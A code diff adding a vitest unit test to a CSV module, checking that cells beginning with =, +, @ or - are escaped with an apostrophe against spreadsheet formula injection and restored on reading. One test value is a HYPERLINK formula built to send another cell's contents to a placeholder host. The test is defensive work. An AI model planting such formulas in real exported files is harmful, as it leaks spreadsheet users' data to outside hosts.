@@ -1,5 +1,5 @@
 import { describe, expect, test } from "vitest";
-import { type CsvLine, csvLines } from "./csv";
+import { type CsvLine, cellFrom, csvLine, csvLines } from "./csv";
 
 /** A file in pieces of so many bytes. */
 async function* pieces(bytes: Uint8Array, size: number) {
@@ -64,4 +64,11 @@ describe("a file of two columns", () => {
     for (const nothing of ["", "\n", "\ufeff\n"]) expect(await cells(nothing)).toEqual([]);
     expect(await cells(",")).toEqual([["", ""]]);
   });
+});
+
+test("what anybody wrote is no formula in a spreadsheet, and comes back as it was", () => {
+  const cells = ['=HYPERLINK("http://x/?"&B2,"هنا")', "+964", "@name", "-5", "كلمة = أخرى"];
+  const line = csvLine(cells);
+  expect(line).toBe(`"'=HYPERLINK(""http://x/?""&B2,""هنا"")",'+964,'@name,'-5,كلمة = أخرى\r\n`);
+  expect(["'=x", "'+964", "'ساعة", "كلمة"].map(cellFrom)).toEqual(["=x", "+964", "'ساعة", "كلمة"]);
 });
